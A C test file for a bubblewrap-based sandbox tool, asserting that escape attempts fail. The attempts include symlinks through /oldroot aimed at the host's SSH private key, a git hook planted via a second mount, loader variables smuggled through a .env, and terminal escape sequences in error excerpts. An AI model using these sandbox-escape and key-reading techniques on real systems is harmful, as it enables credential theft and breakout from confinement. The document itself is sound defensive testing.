		cr_assert(eq(ptr, strstr(r.out, "notice:"), NULL), "%s", r.out);
		th_result_done(&r);
	}
	/* the flake is read-only inside, and an edit outside needs cell allow again */
	expect(in_cell("echo '#' >> flake.nix"), 2, "");
	free(th_write(t.proj, "flake.nix", "{ outputs = { self }: { }; }\n"));
	r = in_cell("echo ran");
	cr_assert(eq(int, r.status, 1), "%s", r.out);
	cr_assert(not(eq(ptr, strstr(r.err, "is not allowed"), NULL)), "%s", r.err);
	th_result_done(&r);
	if (daemon > 0) {
		kill(daemon, SIGTERM);
		waitpid(daemon, NULL, 0);
	}
	free(strace_log);
}

/* The nix daemon's socket is in the cell only with preset nix-daemon (which cell explain warns
 * about): with preset nix, nix in the cell cannot ask the daemon for anything. */
Test(escape, the_nix_daemon_answers_only_with_its_preset)
{
#define PING "/usr/bin/nix --extra-experimental-features nix-command store ping --store daemon"
	pid_t daemon;
	struct th_result r;

	if (access("/usr/bin/nix", X_OK) != 0)
		th_skip("nix is not installed (apt-get install nix-bin)");
	daemon = nix_daemon();
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"presets\": [\"nix\"]}");
	r = in_cell(PING);
	cr_assert(not(eq(int, r.status, 0)), "the daemon answered: %s", r.out);
	cr_assert(not(eq(ptr, strstr(r.err, "cannot connect"), NULL)), "%s", r.err);
	th_result_done(&r);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"presets\": [\"nix-daemon\"]}");
	r = in_cell(PING);
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	th_result_done(&r);
	if (daemon > 0) {
		kill(daemon, SIGTERM);
		waitpid(daemon, NULL, 0);
	}
}

/*
 * bwrap_args and what the cell writes: a reviewed bind of a directory of the project, which the
 * cell turned into a link to ~/.ssh; a reviewed --chmod of a file of the project, which the cell
 * turned into a link through bubblewrap's /oldroot to the host's key. Neither reaches the host:
 * the next cell is refused.
 */
Test(escape, raw_bwrap_args_cannot_be_led_by_links_the_cell_made)
{
	char cfg[1024], link[512], *key = th_join(t.home, ".ssh/id_ed25519");
	struct th_result r;
	struct stat st;

	snprintf(link, sizeof(link), "ln -s %s/.ssh vendor", t.home);
	expect(in_cell(link), 0, "");
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"hardening\": {\"raw_bwrap_args\": true},"
		   " \"bwrap_args\": [\"--ro-bind\", \"./vendor\", \"/tmp/vendor\"]}");
	r = in_cell("cat /tmp/vendor/id_ed25519");
	cr_assert(not(eq(int, r.status, 0)), "the key was bound: %s", r.out);
	cr_assert(eq(ptr, strstr(r.out, "PRIVATE KEY"), NULL));
	cr_assert(not(eq(ptr, strstr(r.err, "the cell writes there"), NULL)), "%s", r.err);
	th_result_done(&r);

	cr_assert(eq(int, chmod(key, 0600), 0));
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"}}");
	snprintf(link, sizeof(link),
		 "rm -f vendor; ln -s ../../../../../../../../../oldroot%s run.sh", key);
	expect(in_cell(link), 0, "");
	snprintf(cfg, sizeof(cfg),
		 "{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		 " \"hardening\": {\"raw_bwrap_args\": true},"
		 " \"bwrap_args\": [\"--chmod\", \"0644\", \"%s/run.sh\"]}",
		 t.proj);
	set_config(cfg);
	r = in_cell("true");
	cr_assert(eq(int, stat(key, &st), 0));
	cr_assert(eq(u32, st.st_mode & 07777, 0600), "the host's key is now %o",
		  st.st_mode & 07777);
	cr_assert(not(eq(int, r.status, 0)));
	cr_assert(not(eq(ptr, strstr(r.err, "where the cell writes"), NULL)), "%s", r.err);
	th_result_done(&r);
	free(key);
}

/*
 * A reviewed mount with its destination in the project (a per-project cache at ./build/cache);
 * the cell turns build into a link through bubblewrap's /oldroot: at the next start bubblewrap
 * would make the mount point on the host, where the link says. The next cell is refused.
 */
Test(escape, a_mount_below_a_link_the_cell_made_is_refused)
{
	char link[1024], *made = th_join(t.outside, "cache");
	struct th_result r;
	struct stat st;

	/* (a directory of the user's, as all of their home is) */
	th_chown_r(t.outside, t.uid, t.gid);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"mounts\": [{\"path\": \"~/.cache/tool\", \"dest\": \"./build/cache\","
		   " \"mode\": \"state\"}]}");
	snprintf(link, sizeof(link),
		 "rm -rf build/cache 2>/dev/null; rmdir build/cache; "
		 "mv build build.old 2>/dev/null; "
		 "ln -s ../../../../../../../../../../oldroot%s build && echo linked",
		 t.outside);
	r = in_cell(link);
	cr_assert(not(eq(ptr, strstr(r.out, "linked"), NULL)), "%s", r.err);
	th_result_done(&r);
	r = in_cell("true");
	cr_assert(not(eq(int, lstat(made, &st), 0)), "the cell made %s on the host", made);
	cr_assert(not(eq(int, r.status, 0)));
	cr_assert(not(eq(ptr, strstr(r.err, "is a symbolic link, and"), NULL)), "%s", r.err);
	th_result_done(&r);
	free(made);
}

/* The project mounted a second time (at /workspace, as a devcontainer would): its .git is as
 * read-only there, so no hook is planted through the second path. */
Test(escape, the_project_mounted_elsewhere_keeps_git_read_only)
{
	char *hook = th_join(t.proj, ".git/hooks/post-checkout");
	struct stat st;

	free(th_write(t.proj, ".git/hooks/.keep", ""));
	th_chown_r(t.proj, t.uid, t.gid);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"mounts\": [{\"path\": \".\", \"dest\": \"/workspace\", \"mode\": \"rw\"}]}");
	expect(in_cell("echo ok > /workspace/new-file && cat new-file && "
		       "{ echo evil > /workspace/.git/hooks/post-checkout; } 2>/dev/null; "
		       "echo $?"),
	       0, "ok\n2\n");
	cr_assert(not(eq(int, lstat(hook, &st), 0)), "a hook was planted");
	free(hook);
}

/* mise (the npm package @jdxcode/mise installs it): its [env] once mise itself trusts it. */
Test(escape, mises_environment_when_mise_trusts_the_config)
{
	const char *mise = access("/usr/local/bin/mise", X_OK) == 0 ? "/usr/local/bin/mise"
			   : access("/usr/bin/mise", X_OK) == 0	    ? "/usr/bin/mise"
								    : NULL;
	char *trust[] = {(char *)mise, (char *)"trust", (char *)"--yes", NULL}, want[1024];
	struct th_result r;

	if (!mise)
		th_skip("mise is not installed (npm install -g @jdxcode/mise; CI reaches no npm)");
	free(th_write(t.proj, "mise.toml",
		      "[env]\nMISE_GREETING = \"hello from mise\"\n_.path = [\"./tools\"]\n"));
	th_chown_r(t.proj, t.uid, t.gid);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"provider\": \"auto\"}}");
	r = in_cell("echo x$MISE_GREETING");
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	cr_assert(eq(str, r.out, (char *)"x\n"));
	cr_assert(not(eq(ptr, strstr(r.err, "not trusted"), NULL)), "%s", r.err);
	th_result_done(&r);
	th_run_as(t.uid, t.gid, t.proj, trust, t.env, &r);
	cr_assert(eq(int, r.status, 0), "mise trust: %s", r.err);
	th_result_done(&r);
	snprintf(want, sizeof(want), "hello from mise\n%s/tools\n", t.proj);
	expect(in_cell("echo $MISE_GREETING; echo $PATH | cut -d: -f1"), 0, want);
	/*
	 * The last of mise's files: an edit is seen (the cache is keyed by all nine; hashing them
	 * overflowed the key's array once, which only the sanitizers' run of this test shows).
	 */
	for (int i = 0; i < 2; i++) {
		free(th_write(t.proj, ".config/mise/config.toml",
			      i ? "[env]\nMISE_LAST = \"two\"\n" : "[env]\nMISE_LAST = \"one\"\n"));
		th_chown_r(t.proj, t.uid, t.gid);
		allow();
		th_run_as(t.uid, t.gid, t.proj, trust, t.env, &r);
		cr_assert(eq(int, r.status, 0), "mise trust: %s", r.err);
		th_result_done(&r);
		expect(in_cell("echo $MISE_LAST"), 0, i ? "two\n" : "one\n");
	}
}

/* A provider that is not installed: a notice and a cell without it; with env.required, no cell. */
Test(escape, a_missing_provider_is_a_notice_or_with_required_no_cell)
{
	struct th_result r;

	if (access("/usr/bin/devenv", X_OK) == 0 || access("/usr/local/bin/devenv", X_OK) == 0)
		th_skip("devenv is installed here");
	free(th_write(t.proj, "devenv.nix", "{ pkgs, ... }: { }\n"));
	/* no provider unless the config asks for one: nothing evaluated, nothing said */
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"}}");
	r = in_cell("echo ran");
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	cr_assert(eq(ptr, strstr(r.err, "devenv"), NULL), "%s", r.err);
	th_result_done(&r);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"provider\": \"auto\"}}");
	r = in_cell("echo ran");
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	cr_assert(eq(str, r.out, (char *)"ran\n"));
	cr_assert(not(eq(ptr, strstr(r.err, "comes from devenv, which is not installed"), NULL)),
		  "%s", r.err);
	th_result_done(&r);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"provider\": \"auto\", \"required\": true}}");
	r = in_cell("echo ran > ran");
	cr_assert(eq(int, r.status, 1), "%s", r.err);
	cr_assert(not(eq(ptr,
			 strstr(r.err, "env.provider: the project's environment comes from devenv"),
			 NULL)),
		  "%s", r.err);
	cr_assert(not(eq(ptr, strstr(r.err, "(env.required)"), NULL)), "%s", r.err);
	cr_assert(not(host_has("proj/ran")));
	th_result_done(&r);
	/* provider none: nothing is evaluated, nothing said */
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"provider\": \"none\", \"required\": true}}");
	expect(in_cell("echo ran"), 0, "ran\n");
}

/*
 * bubblewrap runs on the host: given the cell's variables as its own, its dynamic loader would
 * act on them. A .env written in a cell with LD_DEBUG_OUTPUT pointing outside the cell made the
 * next cell's bubblewrap write there (an LD_LIBRARY_PATH into the project, from env.set or a
 * provider, ran the project's library outside). The cell's variables reach only the cell.
 */
Test(escape, the_cells_variables_never_reach_the_loader_of_the_host_side)
{
	char script[600], *ld_out = th_join(t.outside, "ldout"), *dir;
	struct dirent *de;
	DIR *d;

	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"files\": [\".env\"]}}");
	snprintf(script, sizeof(script),
		 "printf 'LD_DEBUG=libs\\nLD_DEBUG_OUTPUT=%s\\n' > .env && echo written", ld_out);
	expect(in_cell(script), 0, "written\n");
	/* the next cell: its own processes may do as the variables say, in the cell (the loader
	 * there writes its log where it can) */
	{
		struct th_result r = in_cell("echo ran");

		cr_assert(eq(int, r.status, 0), "%s", r.err);
		cr_assert(not(eq(ptr, strstr(r.out, "ran\n"), NULL)), "%s", r.out);
		th_result_done(&r);
	}
	dir = strdup(t.outside);
	d = opendir(dir);
	cr_assert(not(eq(ptr, d, NULL)));
	while ((de = readdir(d)))
		cr_assert(strncmp(de->d_name, "ldout", 5) != 0,
			  "the loader of a process outside the cell wrote %s/%s", dir, de->d_name);
	closedir(d);
	free(dir);
	free(ld_out);
}

/* A hook that leaves a process behind (a dev server, say) does not hold the command up. */
Test(escape, a_hook_that_starts_a_background_process_does_not_hold_the_command)
{
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"hooks\": {\"enter\": [\"sleep 1000 &\", \"export A=after\"]}}");
	/* (without it, the command waited for the sleep: th_run gives up after 30 s) */
	expect(in_cell("echo $A"), 0, "after\n");
}

/* The excerpt of a bad line a cell wrote cannot drive the terminal or reorder the line. */
Test(escape, a_bad_dotenv_lines_excerpt_cannot_drive_the_terminal)
{
	struct th_result r;

	free(th_write(t.proj, ".env",
		      "A=\"x \x1b]0;owned\x07 \x1b[31m \xc2\x9b"
		      "2J \xe2\x80\xae \x9b \xc3\xa9\n"));
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"files\": [\".env\"]}}");
	r = in_cell("echo ran");
	cr_assert(not(eq(int, r.status, 0)));
	cr_assert(not(eq(ptr, strstr(r.err, "    1 | A=\"x ?]0;owned? ?[31m ?2J ? ? \xc3\xa9"),
			 NULL)),
		  "%s", r.err);
	cr_assert(eq(ptr, strchr(r.err, '\x1b'), NULL));
	cr_assert(eq(ptr, strstr(r.err, "\xc2\x9b"), NULL));
	cr_assert(eq(ptr, strstr(r.err, "\xe2\x80\xae"), NULL));
	th_result_done(&r);
}
